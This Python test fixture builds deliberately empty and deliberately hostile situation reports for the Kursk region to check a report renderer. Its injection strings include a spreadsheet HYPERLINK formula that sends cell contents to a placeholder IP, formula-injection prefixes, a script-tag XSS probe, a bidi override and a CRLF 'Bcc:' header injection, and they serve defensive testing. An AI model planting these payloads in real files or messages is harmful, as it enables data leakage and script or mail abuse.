"""Two reports that no renderer may stumble over: one in which nothing was reported, one that means harm."""

from dataclasses import fields, replace

from reports.editions.report import MapPoint, Silence, SituationReport
from tests.reports.rendering.sample import counted, kursk


def sparse() -> SituationReport:
    """A first edition of which nothing is known yet: every list empty, every number not reported."""
    base = kursk()
    empty = {field.name: () for field in fields(base) if isinstance(getattr(base, field.name), tuple)}
    missing = tuple(counted(name, None) for name in ("displaced", "sheltered", "killed"))
    blank = replace(base, **empty)  # type: ignore[arg-type]
    return replace(blank, number=1, next_due_at=None, is_late=True, key_figures=missing, late_registrations=0)


HOSTILE_NAMES = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Kursk")',
    "+1+1",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "منطقة كورسك الشرقية",
    "מחוז קורסק",
    "日本語の地区 🏠",
    "A$B$C_{x} \\frac{1}{2} #let x = [1] *bold* `raw` @label <tag> // no",
    "Verkhnedneprovskonovoaleksandrovskopetropavlovskoye" * 4,
    "\u202eksruK\u202c\x07 O'Brien–Ёжиков",
)


def ugly() -> SituationReport:
    """Forty districts with names that are long, right to left, formulas, markup, or not in any font."""
    base = kursk()
    rows = tuple(
        replace(
            base.regions[number % 9],
            region=f"X{number}",
            name=f"{HOSTILE_NAMES[number % 10]} {number}",
            displaced=123_456_789 - number,
            status=HOSTILE_NAMES[(number + 3) % 10],
        )
        for number in range(40)
    )
    points = tuple(
        MapPoint(row.region, row.name, 51 + (n % 7) / 10, 34 + (n // 7) / 10, 20_000 - 400 * n, 300 * n)
        for n, row in enumerate(rows)
    )
    long = "Не известно, сколько людей осталось: " + "очень длинное предложение без конца " * 12
    return replace(
        base,
        title=HOSTILE_NAMES[0] + " " + HOSTILE_NAMES[4] + " " + HOSTILE_NAMES[8],
        region_name=HOSTILE_NAMES[7],
        produced_by="\r\nBcc: everyone@example.org " + HOSTILE_NAMES[3],
        audience="unheard-of",
        highlights=(*HOSTILE_NAMES, long),
        regions=(*rows, base.regions[-1]),
        map_points=points,
        claims=tuple(
            replace(claim, source=HOSTILE_NAMES[n % 10], scope=HOSTILE_NAMES[(n + 1) % 10], note=long)
            for n, claim in enumerate(base.claims)
        ),
        shelters=tuple(replace(row, name=HOSTILE_NAMES[n % 10]) for n, row in enumerate(base.shelters)),
        flags=HOSTILE_NAMES,
        unknowns=(long, *HOSTILE_NAMES),
        silences=(Silence(HOSTILE_NAMES[8], "X", 1, None, None),),
    )
